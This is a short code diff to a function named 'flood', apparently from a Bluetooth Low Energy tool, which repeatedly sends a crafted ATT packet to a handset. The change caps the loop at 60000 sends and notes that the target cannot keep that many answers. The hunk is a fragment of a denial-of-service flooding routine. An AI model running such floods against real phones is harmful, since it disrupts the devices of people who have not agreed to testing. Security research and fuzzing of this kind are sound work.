@@ -108,7 +108,7 @@ def flood(handset):
     link = link_of(handset)
     handset.air.stream.settimeout(20)
     pdu = b"\x08\x01\x00\xFF\xFF" + phone_ble.SPSM[::-1]
-    while True:
+    for _ in range(60000):  # the answers to so many are more than anybody keeps
         link.put_pdu(b.ATT, pdu)
 
 
